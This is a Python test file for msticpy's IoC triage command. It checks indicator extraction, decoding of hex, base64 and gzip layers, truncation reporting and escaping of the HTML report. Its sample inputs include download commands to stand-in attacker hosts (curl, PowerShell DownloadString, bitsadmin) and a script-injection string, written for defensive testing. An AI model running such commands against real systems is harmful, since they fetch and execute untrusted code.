"""The ``python -m msticpy triage`` command on the bundled sample and generated inputs."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from msticpy.cli import main


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "msticpy", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def triage_json(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    assert main(["triage", "--json", *args]) == 0
    return json.loads(capsys.readouterr().out)


def values(report: dict[str, Any], kind: str, group: str | None = None) -> dict[str, Any]:
    """``{value: item}`` of the shown values of ``kind`` (one group, or all)."""
    found = {}
    for grp in report["iocs"][kind]["groups"]:
        if group is None or grp["group"] == group:
            found.update({item["value"]: item for item in grp["top"]})
    return found


def test_triage_bundled_sample_text() -> None:
    proc = run("triage")
    assert proc.returncode == 0, proc.stderr
    assert "IoC triage of" in proc.stdout
    assert "ipv4" in proc.stdout and "45.133.1.20" in proc.stdout
    assert "(defanged in source)" in proc.stdout
    # The defanged C2 URL is visible in the default report (ties rank marked values first).
    assert "https://cdn-static.contoso-secure.xyz/api/v2  (defanged in source)" in proc.stdout


def test_text_says_what_was_cut(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["triage", "--top", "2"]) == 0
    text = capsys.readouterr().out
    report = triage_json(capsys, "--top", "2")
    for kind, entry in report["iocs"].items():
        for group in entry["groups"]:
            if group["more"]:
                line = f"... and {group['more']} more (--top {group['distinct']} shows all)"
                assert line in text, kind
    assert text.count("... and ") == sum(
        bool(g["more"]) for e in report["iocs"].values() for g in e["groups"]
    ) + bool(report["payloads"]["more"])


def test_json_truncation_is_honest(capsys: pytest.CaptureFixture[str]) -> None:
    cut = triage_json(capsys, "--top", "1")
    assert cut["truncated"] is True and cut["truncated_by"]["top"] is True
    for entry in cut["iocs"].values():
        assert entry["distinct"] == sum(g["distinct"] for g in entry["groups"])
        for group in entry["groups"]:
            assert group["shown"] == len(group["top"]) <= 1
            assert group["shown"] + group["more"] == group["distinct"]
    whole = triage_json(capsys, "--top", "1000")
    assert whole["truncated"] is False
    assert all(g["more"] == 0 for e in whole["iocs"].values() for g in e["groups"])
    assert whole["payloads"]["more"] == 0


@pytest.mark.parametrize("top", ["0", "-1"])
def test_top_below_one_is_rejected(top: str) -> None:
    proc = run("triage", "--top", top)
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert proc.stderr.strip() == f"msticpy triage: --top must be at least 1, not {top}"


def test_triage_json_counts(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys, "--top", "50")
    assert report["cells"] == 22
    assert report["cells_with_time"] == 22
    assert report["time_range"] == ["2026-11-02T08:14:07Z", "2026-11-02T08:25:40Z"]
    assert values(report, "ipv4")["10.20.4.17"]["count"] == 6
    assert report["iocs"]["cve"]["distinct"] == 2
    assert set(values(report, "mitre_attack")) >= {"T1059.001"}


def test_cleaned_view(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys, "--top", "50")
    urls = values(report, "url")
    assert "http://45.133.1.20/a.ps1" in urls
    assert not [u for u in urls if u.endswith(("'", ")", ";"))]
    emails = values(report, "email")
    assert set(emails) == {"billing@contoso-secure.xyz", "alice@contoso.com", "ops@evil-files.top"}
    domains = values(report, "dns")
    assert "2Fportal.contoso-secure.xyz" not in domains
    assert domains["portal.contoso-secure.xyz"]["count"] == 2
    files = values(report, "file_name")
    assert {"x.sh", "a.ps1", "invoice.zip", "p.ps1"} <= set(files)
    assert not {"x.sh", "a.ps", "invoice.zip", "p.ps"} & set(domains)
    # The CIDR range is reported once, not also as its base address.
    assert "45.133.1.0" not in values(report, "ipv4")
    assert set(values(report, "ipv4_cidr")) == {"45.133.1.0/24"}


def test_labels_name_the_layer(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys, "--top", "50")
    urls = values(report, "url")
    assert urls["http://files.update-check.org/upd.exe"]["layers"] == {"hex": 1}
    assert urls["http://stage2.evil-cdn.net/p.ps1"]["layers"] == {"base64 (gz)": 1}
    assert urls["https://portal.contoso-secure.xyz/sso"]["layers"] == {"url-decoded": 1}
    assert urls["https://portal.contoso-secure.xyz/sso"]["in_decoded_payload"] is False
    hidden = {(i["type"], i["value"]): i["layers"] for i in report["iocs_in_decoded_payloads"]}
    assert hidden[("dns", "files.update-check.org")] == ["hex"]
    assert hidden[("dns", "stage2.evil-cdn.net")] == ["base64 (gz)"]
    assert hidden[("ipv4", "203.0.113.99")] == ["base64 (gz)"]
    assert main(["triage", "--top", "50"]) == 0
    text = capsys.readouterr().out
    assert "files.update-check.org  (only inside a decoded hex payload)" in text
    assert "hex payload" not in text.replace("decoded hex payload", "")
    assert "files.update-check.org  (only inside a decoded base64" not in text


def test_addresses_listed_by_scope(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys, "--top", "50")
    groups = [g["group"] for g in report["iocs"]["ipv4"]["groups"]]
    assert groups == ["public", "private", "documentation"]
    assert set(values(report, "ipv4", "public")) == {"45.133.1.20", "185.220.101.47"}
    assert set(values(report, "ipv4", "private")) == {"10.20.4.17", "10.20.4.31"}
    assert "203.0.113.77" in values(report, "ipv4", "documentation")
    assert values(report, "ipv6", "documentation")
    assert main(["triage"]) == 0
    text = capsys.readouterr().out
    public, private = text.index("  public "), text.index("  private ")
    assert public < text.index("45.133.1.20") < private < text.index("10.20.4.17")


def test_triage_finds_iocs_inside_gzip_inside_base64(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys)
    payload = report["payloads"]["top"][0]
    assert payload["type"] == "gz"
    assert payload["name"] == "gzip_file"
    assert payload["layer"] == "base64 (gz)"
    assert payload["first_seen"] == "2026-11-02T08:24:02Z"
    assert "DownloadString" in payload["preview"]
    assert main(["triage"]) == 0
    assert "IoCs found only inside decoded layers" in capsys.readouterr().out


def test_triage_decodes_hex_payloads(capsys: pytest.CaptureFixture[str]) -> None:
    report = triage_json(capsys)
    hex_payloads = [p for p in report["payloads"]["top"] if p["encoding"] == "hex"]
    assert [p["preview"][:20] for p in hex_payloads] == ["bitsadmin /transfer "]


def test_triage_csv_column(tmp_path: Path) -> None:
    csv_file = tmp_path / "events.csv"
    csv_file.write_text(
        "id,TimeGenerated,cmd\n"
        '1,2026-01-02T03:04:05Z,"curl http://evil.example.com/x"\n'
        "2,2026-01-02 03:05:00,ping 8.8.8.8\n"
    )
    proc = run("triage", str(csv_file), "--column", "cmd", "--json", "--progress", "always")
    report = json.loads(proc.stdout)
    assert report["cells"] == 2
    assert report["time_range"] == ["2026-01-02T03:04:05Z", "2026-01-02T03:05:00Z"]
    top = report["iocs"]["ipv4"]["groups"][0]["top"][0]
    assert top["value"] == "8.8.8.8" and top["scope"] == "public"
    assert "100%" in proc.stderr  # the progress bar (tqdm)


def test_triage_large_csv_column(tmp_path: Path) -> None:
    # More rows than one read chunk: the CSV reader must not ask the text layer for tell().
    path = tmp_path / "big.csv"
    rows = [f"{k},curl http://10.1.{k % 250}.{k % 200 + 1}/x" for k in range(60_000)]
    path.write_text("n,cmd\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = json.loads(run("triage", str(path), "--column", "cmd", "--json").stdout)
    assert report["cells"] == 60_000


def test_version_option() -> None:
    from msticpy import __version__

    proc = run("--version")
    assert proc.returncode == 0
    assert proc.stdout.strip() == f"msticpy {__version__} (msticpy API level 3.0.2)"
    assert run("triage", "--version").stdout == proc.stdout


def test_html_page_is_self_contained(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "report.html"
    assert main(["triage", "--html", str(page)]) == 0
    out, err = capsys.readouterr()
    assert "IoC triage of" in out  # the text report still goes to stdout
    assert err == f"msticpy triage: HTML report written to {page}\n"
    html = page.read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
    assert not re.search(r"<(script|link|img|iframe)\b", html, re.IGNORECASE)
    assert not re.search(r"\b(src|href)\s*=", html, re.IGNORECASE)
    assert "@import" not in html and "url(" not in html
    assert 'id="timeline"' in html and html.count('class="dot"') > 20
    assert "DownloadString(&#x27;http://stage2.evil-cdn.net/p.ps1&#x27;)" in html
    assert "https://cdn-static.contoso-secure.xyz/api/v2" in html
    assert "&hellip; and " in html


def test_html_without_timestamps(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "plain.log"
    log.write_text("beacon to 45.133.1.20 and <script>alert(1)</script>evil.example.com\n")
    page = tmp_path / "plain.html"
    assert main(["triage", str(log), "--html", str(page), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["time_range"] is None and report["cells_with_time"] == 0
    html = page.read_text(encoding="utf-8")
    assert "No timestamps in the input: no timeline." in html
    assert "<script>" not in html  # input text is escaped


def test_html_refusals(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["triage", "--cluster", "--html", str(tmp_path / "x.html")]) == 2
    assert capsys.readouterr().err == (
        "msticpy triage: --html is available for the IoC report, not for --cluster\n"
    )
    assert main(["triage", "--html", str(tmp_path / "no" / "dir" / "x.html")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("msticpy triage: cannot write ") and err.count("\n") == 1


def test_nested_layers_are_named_by_their_chain(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import base64
    import binascii
    import gzip

    inner = base64.b64encode(b"connect http://deep.evil-example.net/x now").decode()
    outer = base64.b64encode(gzip.compress(f"payload {inner} end".encode())).decode()
    hex_b64 = base64.b64encode(b"curl http://hex-b64.example.org/y -o z").decode()
    hexed = binascii.hexlify(f"run {hex_b64}".encode()).decode()
    log = tmp_path / "nested.log"
    log.write_text(f"a {outer} b\ncmd {hexed}\n")
    report = triage_json(capsys, str(log), "--top", "50")
    urls = values(report, "url")
    assert urls["http://deep.evil-example.net/x"]["layers"] == {"base64 (gz) > base64": 1}
    assert urls["http://hex-b64.example.org/y"]["layers"] == {"hex > base64": 1}
    assert main(["triage", str(log), "--top", "50"]) == 0
    text = capsys.readouterr().out
    assert "http://hex-b64.example.org/y  (only inside a decoded hex > base64 payload)" in text


def test_layer_chains_say_depth_when_the_parent_is_ambiguous() -> None:
    from msticpy.cli.triage import LayerChains

    def record(depth: str, encoding: str, kind: str | None = None) -> tuple:
        fields: list[object] = [None] * 15
        fields[1], fields[5], fields[14] = depth, kind, encoding
        return tuple(fields)

    chains = LayerChains()
    assert chains.name(0, record("1.", "base64", "gz")) == "base64 (gz)"
    assert chains.name(0, record("2.", "hex")) == "base64 (gz) > hex"
    assert chains.name(0, record("2.", "base32")) == "base64 (gz) > base32"
    # Two different chains one level up: which one holds this item is not known.
    assert chains.name(0, record("3.", "base64")) == "base64 at depth 3"
    assert chains.name(1, record("1.", "hex")) == "hex"  # each cell has its own chains
